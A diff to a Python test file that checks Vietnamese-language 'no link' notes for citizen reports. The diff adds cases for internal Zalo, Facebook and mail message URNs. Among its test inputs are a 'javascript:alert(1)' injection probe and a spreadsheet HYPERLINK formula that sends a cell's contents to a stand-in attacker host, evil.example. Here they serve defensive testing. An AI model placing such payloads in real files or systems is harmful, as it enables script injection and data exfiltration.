@@ -129,6 +129,9 @@ def test_a_report_heard_in_person_says_it_has_no_link():
     assert "không có liên kết" in note and "không mở được" not in note
     assert "không mở được" not in no_link_note("social", "urn:langnghe:import:abc")
     assert "không mở được" in no_link_note("social", "javascript:alert(1)")
+    for url in ("urn:langnghe:zalo-msg:zmsg-demo-1", "urn:langnghe:fb-msg:m1", "urn:langnghe:mail:x"):  # round 21
+        note = no_link_note("social", url)
+        assert "không mở được" not in note and "http" not in note and "trang Phản ánh" in note, url
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")'
